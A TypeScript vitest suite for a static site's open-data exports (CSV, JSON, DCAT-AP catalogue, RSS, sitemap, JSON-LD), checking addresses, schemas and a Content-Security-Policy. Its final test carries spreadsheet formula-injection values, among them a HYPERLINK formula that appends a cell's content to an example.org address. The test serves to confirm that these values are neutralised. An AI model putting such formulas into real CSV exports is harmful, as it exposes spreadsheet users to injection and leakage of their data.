import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Ajv2020 } from 'ajv/dist/2020.js';
import addFormats from 'ajv-formats';
import { parse } from 'csv-parse/sync';
import { XMLParser } from 'fast-xml-parser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { repo } from '../helpers.ts';
import { readContent } from '../support/content.ts';
import { fixtureSiteUrl } from '../support/fixture-site.ts';
import { listFiles } from '../support/gates.ts';
import { fixtureSite, mainSite, openSite, readBuilt, type BuiltSite } from '../support/site.ts';
import { validateCatalog } from '../unit/dcat-ap-shacl.ts';

const collections = ['practices', 'tools', 'reports', 'regions', 'themes'] as const;
type Collection = (typeof collections)[number];
type Node = Record<string, any>;

const contentDir = process.env['ATLAS_CONTENT'] ? path.resolve(repo, process.env['ATLAS_CONTENT']) : path.join(repo, 'content');

function idsIn(dir: string): Record<Collection, string[]> {
  const content = readContent(dir);
  return {
    practices: content.practices.map((e) => e.id).sort(),
    tools: content.tools.map((e) => e.id).sort(),
    reports: content.reports.map((e) => e.id).sort(),
    regions: content.regions.map((e) => e.id).sort(),
    themes: content.themes.map((e) => e.id).sort(),
  };
}

/** Every .csv file under a folder. */
const csvFilesIn = (dir: string): string[] =>
  readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? csvFilesIn(path.join(dir, e.name)) : e.name.endsWith('.csv') ? [path.join(dir, e.name)] : [])).sort();

const jsonRecords = (site: BuiltSite, c: Collection) => JSON.parse(readBuilt(site, `data/${c}.json`)) as Node[];
const csvRows = (site: BuiltSite, c: Collection) => parse(readBuilt(site, `data/${c}.csv`), { bom: true, columns: true }) as Record<string, string>[];

function expectIdsMatch(site: BuiltSite, expected: Record<Collection, string[]>) {
  for (const c of collections) {
    expect(jsonRecords(site, c).map((r) => r['id']), `${c}.json`).toEqual(expected[c]);
    expect(csvRows(site, c).map((r) => r['id']), `${c}.csv`).toEqual(expected[c]);
  }
}

/** Where a built site is read from in these tests: its published root when it has one, else a stand-in host. */
const rootOf = (site: BuiltSite, host?: string) => `${host ?? 'http://site.test'}${site.base}`;

/** The file an address of the built site points to (absolute, or relative to the file `from`), or undefined when it is not on this site. */
function fileOf(site: BuiltSite, address: string, root: string, from = 'data/catalog.jsonld'): string | undefined {
  const url = new URL(address, new URL(from, root)).href;
  if (!url.startsWith(root)) return undefined;
  const file = path.join(site.dir, decodeURIComponent(url.slice(root.length).replace(/[?#].*$/, '')));
  return existsSync(file) && statSync(file).isDirectory() ? path.join(file, 'index.html') : file;
}

function expectCatalogMatchesFiles(site: BuiltSite, host?: string) {
  const catalog = JSON.parse(readBuilt(site, 'data/catalog.jsonld')) as Node;
  const root = rootOf(site, host);
  expect(catalog['@type']).toBe('dcat:Catalog');
  expect(fileOf(site, catalog['foaf:homepage']['@id'], root)).toBe(path.join(site.dir, 'index.html'));
  const datasets = catalog['dcat:dataset'] as Node[];
  expect(datasets.map((d) => d['dct:identifier']).sort()).toEqual([...collections].sort());
  let checked = 0;
  for (const dataset of datasets) {
    expect(existsSync(fileOf(site, dataset['dcat:landingPage']['@id'], root)!), dataset['dcat:landingPage']['@id']).toBe(true);
    for (const distribution of dataset['dcat:distribution'] as Node[]) {
      const file = fileOf(site, distribution['dcat:downloadURL']['@id'], root);
      expect(file, distribution['dcat:downloadURL']['@id']).toBeDefined();
      expect(existsSync(file!), file).toBe(true);
      expect(distribution['dcat:byteSize']['@value'], file).toBe(statSync(file!).size);
      const schema = distribution['dct:conformsTo']['@id'] as string;
      if (distribution['dct:format']['@id'].endsWith('/JSON')) expect(existsSync(fileOf(site, schema, root)!), schema).toBe(true);
      checked++;
    }
  }
  expect(checked).toBe(collections.length * 2);
  return catalog;
}

/** The catalogue as served, read from its address: no violation of the DCAT-AP 3.0.1 shapes (tests/unit/dcat-ap.test.ts says which warnings remain). */
async function expectCatalogConforms(site: BuiltSite, host?: string) {
  const catalog = JSON.parse(readBuilt(site, 'data/catalog.jsonld')) as unknown;
  const results = await validateCatalog(catalog, `${rootOf(site, host)}data/catalog.jsonld`);
  expect(results.profile).toEqual([]);
  expect(results.vocabularies.filter((r) => r.severity === 'Violation')).toEqual([]);
}

function validateAgainstPublishedSchemas(site: BuiltSite) {
  const ajv = new Ajv2020({ allErrors: true, strict: true });
  addFormats.default(ajv);
  for (const c of collections) {
    const schema = JSON.parse(readBuilt(site, `data/schema/${c}.schema.json`));
    const validate = ajv.compile(schema);
    validate(jsonRecords(site, c));
    expect(validate.errors ?? [], `${c}.json against ${c}.schema.json`).toEqual([]);
  }
}

function jsonLdOf(html: string): Node {
  const match = /<script type="application\/ld\+json">([\s\S]*?)<\/script>/.exec(html);
  expect(match, 'a JSON-LD block').not.toBeNull();
  return JSON.parse(match![1]!);
}

const metaContent = (html: string, attr: 'name' | 'property', name: string) =>
  [...html.matchAll(new RegExp(`<meta ${attr}="${name.replace('.', '\\.')}" content="([^"]*)"`, 'g'))].map((m) => m[1]);

/** What a site must never publish as its address: a developer's machine, or the stand-in Astro builds with when SITE_URL is unset. */
const foreignHosts = ['localhost', '127.0.0.1', 'site-url-not-set'];

/** Every file of a built folder, whatever its type, that names one of the foreign hosts. */
function foreignHostsIn(dir: string): string[] {
  return listFiles(dir).flatMap((file) => {
    const text = readFileSync(path.join(dir, file)).toString('latin1');
    return foreignHosts.filter((host) => text.includes(host)).map((host) => `${file}: ${host}`);
  });
}

const pagesOf = (dir: string) => listFiles(dir, '.html');
const attr = (html: string, pattern: RegExp) => pattern.exec(html)?.[1];
const canonicalOf = (html: string) => attr(html, /<link rel="canonical" href="([^"]*)"/);
const ogUrlOf = (html: string) => attr(html, /<meta property="og:url" content="([^"]*)"/);
const citeOf = (html: string) => attr(html, /<section class="cite"[^>]*>([\s\S]*?)<\/section>/) ?? '';
/** An entry page: one of a collection's pages (not a listing such as tools/compare/) with the entry's JSON-LD. */
const isEntryPage = (page: string, html: string) => /^[a-z]+\/[^/]+\/index\.html$/.test(page) && html.includes('<script type="application/ld+json">');

/** A build without SITE_URL: no feed, no sitemap, no canonical link, og:url or address in a citation; the metadata it keeps is relative. */
function noHostProblems(site: BuiltSite): string[] {
  const problems: string[] = [];
  for (const file of ['rss.xml', 'sitemap-index.xml', 'sitemap-0.xml']) if (existsSync(path.join(site.dir, file))) problems.push(`${file} is published`);
  for (const page of pagesOf(site.dir)) {
    const html = readFileSync(path.join(site.dir, page), 'utf8');
    if (canonicalOf(html) !== undefined) problems.push(`${page}: canonical link ${canonicalOf(html)}`);
    if (ogUrlOf(html) !== undefined) problems.push(`${page}: og:url ${ogUrlOf(html)}`);
    if (/href="[^"]*(rss\.xml|sitemap-index\.xml)"/.test(html)) problems.push(`${page}: links the feed or the sitemap`);
    if (/https?:\/\//.test(citeOf(html))) problems.push(`${page}: a citation with an address`);
    if (isEntryPage(page, html)) {
      const ld = JSON.parse(attr(html, /<script type="application\/ld\+json">([\s\S]*?)<\/script>/) ?? '{}') as Node;
      if (ld['@id'] !== './') problems.push(`${page}: JSON-LD @id ${ld['@id']}`);
      if (attr(html, /<meta name="citation_public_url" content="([^"]*)"/) !== './') problems.push(`${page}: citation_public_url is not ./`);
    }
  }
  const catalog = readBuilt(site, 'data/catalog.jsonld');
  for (const id of catalog.matchAll(/"@id": "([^"]*)"/g)) {
    if (id[1]!.startsWith('/')) problems.push(`catalog.jsonld: ${id[1]} is relative to a root, not to the catalogue`);
  }
  for (const c of collections) {
    for (const record of jsonRecords(site, c)) if (/^(https?:)?\//.test(String(record['url']))) problems.push(`${c}.json: ${record['id']} url ${record['url']}`);
    if (JSON.parse(readBuilt(site, `data/schema/${c}.schema.json`))['$id'] !== undefined) problems.push(`${c}.schema.json has an $id`);
  }
  return problems;
}

/** A build with SITE_URL: its root in every canonical link, og:url, citation, feed item, sitemap entry, catalogue IRI and record. */
function hostProblems(site: BuiltSite, host: string): string[] {
  const root = rootOf(site, host);
  const problems: string[] = [];
  const expectAt = (where: string, address: string | undefined, expected: string) => {
    if (address !== expected) problems.push(`${where}: ${address} instead of ${expected}`);
  };
  const pages = pagesOf(site.dir).filter((page) => page !== '404.html');
  for (const page of pages) {
    const html = readFileSync(path.join(site.dir, page), 'utf8');
    const url = `${root}${page.replace(/index\.html$/, '')}`;
    expectAt(`${page} canonical`, canonicalOf(html), url);
    expectAt(`${page} og:url`, ogUrlOf(html), url);
    if (citeOf(html) && !citeOf(html).includes(url)) problems.push(`${page}: the citation does not name ${url}`);
    if (isEntryPage(page, html)) expectAt(`${page} citation_public_url`, attr(html, /<meta name="citation_public_url" content="([^"]*)"/), url);
  }
  if (!existsSync(path.join(site.dir, 'rss.xml'))) problems.push('no rss.xml');
  else {
    const links = [...readBuilt(site, 'rss.xml').matchAll(/<link>([^<]*)<\/link>/g)].map((m) => m[1]!);
    if (links.length < 2) problems.push('rss.xml has no items');
    for (const link of links) if (!link.startsWith(root)) problems.push(`rss.xml: ${link}`);
  }
  if (!existsSync(path.join(site.dir, 'sitemap-index.xml'))) problems.push('no sitemap-index.xml');
  else {
    const locs = [...readBuilt(site, 'sitemap-0.xml').matchAll(/<loc>([^<]*)<\/loc>/g)].map((m) => m[1]!);
    for (const loc of locs) if (!loc.startsWith(root)) problems.push(`sitemap-0.xml: ${loc}`);
    if (locs.length !== pages.length) problems.push(`sitemap-0.xml lists ${locs.length} of ${pages.length} pages`);
  }
  const catalog = JSON.parse(readBuilt(site, 'data/catalog.jsonld')) as Node;
  const own = [catalog['@id'], catalog['foaf:homepage']['@id'], ...(catalog['dcat:dataset'] as Node[]).flatMap((d) => [
    d['@id'], d['dcat:landingPage']['@id'], ...(d['dcat:distribution'] as Node[]).flatMap((x) => [x['@id'], x['dcat:downloadURL']['@id']]),
  ])] as string[];
  for (const id of own) if (!id.startsWith(root)) problems.push(`catalog.jsonld: ${id}`);
  for (const c of collections) {
    for (const record of jsonRecords(site, c)) if (!String(record['url']).startsWith(root)) problems.push(`${c}.json: ${record['id']} url ${record['url']}`);
    for (const row of csvRows(site, c)) if (!row['url']!.startsWith(root)) problems.push(`${c}.csv: ${row['id']} url ${row['url']}`);
    expectAt(`${c}.schema.json $id`, JSON.parse(readBuilt(site, `data/schema/${c}.schema.json`))['$id'], `${root}data/schema/${c}.schema.json`);
  }
  return problems;
}

// The shared fixture build under /kb/ is made with its address set (SITE_URL, tests/support/fixture-site.ts);
// the main build without one.
const fixtureHost = fixtureSiteUrl;

describe('the site\'s address: never a wrong one', () => {
  it('the main build, made without SITE_URL, names no host of its own in any file, and publishes nothing that needs one', () => {
    const site = mainSite();
    expect(foreignHostsIn(site.dir)).toEqual([]);
    expect(noHostProblems(site)).toEqual([]);
  });

  const fixture = fixtureSite();
  it(`the fixture build has ${fixtureHost}/kb/ in every canonical link, citation, feed item, sitemap entry and catalogue IRI`, () => {
    expect(foreignHostsIn(fixture.dir)).toEqual([]);
    expect(hostProblems(fixture, fixtureHost)).toEqual([]);
  });

  it('each check fails on a deliberately wrong build', () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'atlas-wrong-host-'));
    const wrong: BuiltSite = { dir, base: '/kb/' };
    mkdirSync(path.join(dir, 'practices/p'), { recursive: true });
    mkdirSync(path.join(dir, 'data/schema'), { recursive: true });
    const page = (url: string) => `<!doctype html><html><head><link rel="alternate" type="application/rss+xml" href="/kb/rss.xml"><link rel="canonical" href="${url}"><meta property="og:url" content="${url}"><script type="application/ld+json">{"@id":"${url}"}</script><meta name="citation_public_url" content="${url}"></head><body><section class="cite"><pre>Editors (2026). P. Atlas. ${url}</pre></section></body></html>`;
    writeFileSync(path.join(dir, 'index.html'), page('http://localhost:4321/kb/'));
    writeFileSync(path.join(dir, 'practices/p/index.html'), page('http://localhost:4321/kb/practices/p/'));
    writeFileSync(path.join(dir, 'rss.xml'), '<rss><channel><link>http://localhost:4321/kb/</link><item><link>http://localhost:4321/kb/practices/p/</link></item></channel></rss>');
    writeFileSync(path.join(dir, 'sitemap-index.xml'), '<sitemapindex/>');
    writeFileSync(path.join(dir, 'sitemap-0.xml'), '<urlset><url><loc>http://localhost:4321/kb/</loc></url></urlset>');
    const here = 'http://localhost:4321/kb/';
    writeFileSync(path.join(dir, 'data/catalog.jsonld'), JSON.stringify({
      '@id': `${here}data/catalog.jsonld`, 'foaf:homepage': { '@id': here },
      'dcat:dataset': collections.map((c) => ({ '@id': `/kb/data/#${c}`, 'dcat:landingPage': { '@id': `${here}${c}/` }, 'dcat:distribution': [{ '@id': `${here}data/${c}.json`, 'dcat:downloadURL': { '@id': `${here}data/${c}.json` } }] })),
    }, null, 2));
    for (const c of collections) {
      writeFileSync(path.join(dir, `data/${c}.json`), JSON.stringify([{ id: 'p', url: `${here}${c}/p/` }]));
      writeFileSync(path.join(dir, `data/${c}.csv`), `id,url\r\np,${here}${c}/p/\r\n`);
      writeFileSync(path.join(dir, `data/schema/${c}.schema.json`), JSON.stringify({ $id: `${here}data/schema/${c}.schema.json` }));
    }
    expect(foreignHostsIn(dir).length).toBeGreaterThanOrEqual(10);
    const withoutHost = noHostProblems(wrong).join('\n');
    for (const problem of ['rss.xml is published', 'canonical link', 'og:url', 'links the feed', 'a citation with an address', 'JSON-LD @id', 'citation_public_url', 'relative to a root', 'url http://localhost', 'has an $id']) expect(withoutHost).toContain(problem);
    const withHost = hostProblems(wrong, fixtureHost).join('\n');
    for (const problem of ['index.html canonical', 'og:url', 'does not name', 'citation_public_url', 'rss.xml: http://localhost', 'sitemap-0.xml: http://localhost', 'catalog.jsonld: /kb/data/#practices', 'practices.csv: p url', '$id']) expect(withHost).toContain(problem);
  });
});

describe('open data of the main build', () => {
  const site = mainSite();
  const content = readContent(contentDir);

  it('JSON and CSV of every collection hold exactly the ids in the content folder', () => {
    expectIdsMatch(site, idsIn(contentDir));
  });

  it('every JSON record validates against its published JSON Schema (ajv)', () => {
    validateAgainstPublishedSchemas(site);
  });

  it('the catalogue conforms to DCAT-AP 3.0.1, and its distributions point at files that exist, with their real byte sizes', async () => {
    await expectCatalogConforms(site);
    const catalog = expectCatalogMatchesFiles(site);
    expect(catalog['dct:license']['@id']).toBe('http://publications.europa.eu/resource/authority/licence/CC_BY_4_0');
    expect(catalog['dct:license']['foaf:page']['@id']).toBe('https://creativecommons.org/licenses/by/4.0/');
    expect(catalog['dct:publisher']['foaf:name']).toBe('CIVITEC');
    const countries = new Set(content.regions.map((r) => r.data['country']));
    expect((catalog['dct:spatial'] as Node[]).length).toBe(countries.size);
    for (const s of catalog['dct:spatial'] as Node[]) expect(s['@id']).toMatch(/^http:\/\/publications\.europa\.eu\/resource\/authority\/country\/[A-Z]{3}$/);
  });

  it('a tool\'s deployments are the practices that reference it', () => {
    for (const tool of jsonRecords(site, 'tools')) {
      const expected = content.practices.filter((p) => (p.data['tools'] as string[]).includes(tool['id'])).map((p) => p.id).sort();
      expect(tool['deployments'], tool['id']).toEqual(expected);
    }
  });

  it('a practice page carries JSON-LD naming the practice, citation, Dublin Core and OpenGraph meta', () => {
    const practice = content.practices[0]!;
    const html = readBuilt(site, `practices/${practice.id}/index.html`);
    const ld = jsonLdOf(html);
    expect(ld['@context']).toBe('https://schema.org');
    expect(ld['name']).toBe(practice.data['title']);
    expect(ld['spatialCoverage']['@type']).toBe('Place');
    const decode = (s: string | undefined) => (s ?? '').replace(/&amp;/g, '&').replace(/&quot;/g, '"').replace(/&#39;/g, "'").replace(/&lt;/g, '<').replace(/&gt;/g, '>');
    expect(decode(metaContent(html, 'name', 'citation_title')[0])).toBe(practice.data['title']);
    expect(metaContent(html, 'name', 'citation_author').map(decode)).toEqual(practice.data['contributors']);
    expect(metaContent(html, 'name', 'DC.date')).toEqual([String(practice.data['updated'])]);
    expect(metaContent(html, 'name', 'DC.rights')).toEqual(['https://creativecommons.org/licenses/by/4.0/']);
    expect(decode(metaContent(html, 'property', 'og:description')[0])).toBe(practice.data['summary']);
    // Built without SITE_URL: no og:url and no feed to link (see "the site's address" above).
    expect(metaContent(html, 'property', 'og:url')).toEqual([]);
    expect(ld['datePublished']).toBe(String(practice.data['updated']));
  });

  it('every entry page has a JSON-LD block of the right type', () => {
    const types: Record<Collection, string> = { practices: 'CreativeWork', tools: 'SoftwareApplication', reports: 'Event', regions: 'Place', themes: 'DefinedTerm' };
    const ids = idsIn(contentDir);
    for (const c of collections) {
      for (const id of ids[c].slice(0, 3)) {
        const ld = jsonLdOf(readBuilt(site, `${c}/${id}/index.html`));
        expect([ld['@type']].flat(), `${c}/${id}`).toContain(types[c]);
      }
    }
  });

  it('the data page links every file', () => {
    const page = readBuilt(site, 'data/index.html');
    for (const c of collections) {
      for (const file of [`data/${c}.json`, `data/${c}.csv`, `data/schema/${c}.schema.json`]) expect(page).toContain(`href="/${file}"`);
    }
    expect(page).toContain('href="/data/catalog.jsonld"');
    expect(page).toContain('href="/data/datapackage.json"');
    const dataPackage = JSON.parse(readBuilt(site, 'data/datapackage.json')) as Node;
    for (const resource of dataPackage['resources'] as Node[]) {
      const file = path.join(site.dir, 'data', resource['path']);
      expect(existsSync(file), resource['path']).toBe(true);
      if (resource['bytes'] !== undefined) expect(statSync(file).size, resource['path']).toBe(resource['bytes']);
    }
  });

  it('no build time in the output: a second read of the catalogue dates comes from content only', () => {
    const catalog = readBuilt(site, 'data/catalog.jsonld');
    const today = new Date().toISOString().slice(0, 10);
    const contentDates = JSON.stringify(readContent(contentDir));
    if (!contentDates.includes(today)) expect(catalog).not.toContain(today);
  });
});

describe('JSON-LD and the Content-Security-Policy in a browser', () => {
  let open: Awaited<ReturnType<typeof openSite>>;
  beforeAll(async () => {
    open = await openSite(mainSite());
  });
  afterAll(async () => open?.close());

  it('a practice page reports no CSP violation and its JSON-LD parses in the page', async () => {
    const practice = readContent(contentDir).practices[0]!;
    const problems: string[] = [];
    open.page.on('console', (m) => {
      if (/Content.Security.Policy/i.test(m.text())) problems.push(m.text());
    });
    await open.page.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', (e) => console.error(`Content-Security-Policy violation: ${e.violatedDirective} ${e.blockedURI}`));
    });
    await open.page.goto(`${open.server.url}practices/${practice.id}/`);
    const name = await open.page.evaluate(() => JSON.parse(document.querySelector('script[type="application/ld+json"]')!.textContent!).name);
    expect(name).toBe(practice.data['title']);
    expect(problems).toEqual([]);
  });
});

describe('open data of the fixture build, with more practices, under a base path', () => {
  // The shared fixture build (tests/support/fixture-site.ts): the valid fixture, a practice whose text
  // fields start like spreadsheet formulas in a new region with a negative longitude, and one more practice.
  const { content, ...site } = fixtureSite();

  it('the exports hold the new id along with the others', () => {
    const expected = idsIn(content);
    expect(expected.practices).toContain('added-practice');
    expectIdsMatch(site, expected);
    const added = csvRows(site, 'practices').find((r) => r['id'] === 'added-practice')!;
    expect(added['title']).toBe('\'=Added practice, with a comma and "quotes"');
    expect(added['url']).toBe(`${fixtureHost}/kb/practices/added-practice/`);
    const tool = jsonRecords(site, 'tools').find((t) => t['id'] === 'fixture-tool')!;
    expect(tool['deployments']).toEqual(['added-practice', 'oulu-youth-budget', 'timisoara-budget']);
  });

  it('records validate, the catalogue conforms and its sizes match the files, the feed starts with the new practice and carries the reports', async () => {
    validateAgainstPublishedSchemas(site);
    await expectCatalogConforms(site, fixtureHost);
    const catalog = expectCatalogMatchesFiles(site, fixtureHost);
    expect(catalog['dct:modified']['@value']).toBe('2026-05-04');
    expect(readBuilt(site, 'data/index.html')).toContain('href="/kb/data/practices.csv"');
    const feed = new XMLParser().parse(readBuilt(site, 'rss.xml')) as Node;
    const items = [feed['rss']['channel']['item']].flat() as Node[];
    expect(items[0]!['link']).toBe(`${fixtureHost}/kb/practices/added-practice/`);
    const dates = items.map((i) => Date.parse(i['pubDate']));
    expect(dates).toEqual([...dates].sort((a, b) => b - a));
    const reports = readContent(content).reports.length;
    expect(reports).toBeGreaterThan(0);
    expect(items.filter((i) => String(i['link']).includes('/reports/'))).toHaveLength(reports);
  });

  it('no CSV cell starts a spreadsheet formula: text gets a leading apostrophe, numbers stay numbers', () => {
    const files = csvFilesIn(site.dir).map((file) => path.relative(site.dir, file).split(path.sep).join('/'));
    expect(files).toEqual(expect.arrayContaining([...collections.map((c) => `data/${c}.csv`), 'tables/regions.csv', 'tables/theme-participatory-budgeting.csv']));
    let neutralised = 0;
    for (const file of files) {
      const rows = parse(readBuilt(site, file), { bom: true }) as string[][];
      for (const [i, row] of rows.entries()) {
        for (const cell of row) {
          if (cell.startsWith("'")) neutralised++;
          const isNumber = cell.trim() !== '' && Number.isFinite(Number(cell));
          if (!isNumber) expect(cell, `${file} row ${i + 1}`).not.toMatch(/^[=+\-@\t\r\0＝＋－＠]/);
        }
      }
    }
    expect(neutralised).toBeGreaterThanOrEqual(10);

    const added = csvRows(site, 'practices').find((r) => r['id'] === 'added-practice')!;
    expect(added).toMatchObject({
      summary: "'+A fixture practice whose text fields start like spreadsheet formulas.",
      city: "'-Porto",
      institution: "'@Fixture Municipality",
      stakeholders: '\'=HYPERLINK("https://example.org/"&A1); \tTabbed partner; Residents',
      'indicators.label': "'-Turnout change",
      'indicators.value': '-3.5',
      'sources.title': "'@Fixture source",
    });
    const norte = csvRows(site, 'regions').find((r) => r['id'] === 'norte')!;
    expect(norte).toMatchObject({ 'coordinates.latitude': '41.15', 'coordinates.longitude': '-8.61', 'partner.organisation': "'+Fixture Partner Agency" });
    // The JSON keeps the text as written.
    expect(jsonRecords(site, 'practices').find((r) => r['id'] === 'added-practice')!['title']).toBe('=Added practice, with a comma and "quotes"');
    // The tables' CSVs too: the practice's row in its theme's table.
    const themeRows = parse(readBuilt(site, 'tables/theme-participatory-budgeting.csv'), { bom: true }) as string[][];
    expect(themeRows.find((row) => row[0]!.includes('Added practice'))).toEqual(expect.arrayContaining(['\'=Added practice, with a comma and "quotes"', "'-Turnout change: -3.5 % (2020)"]));
  });
});
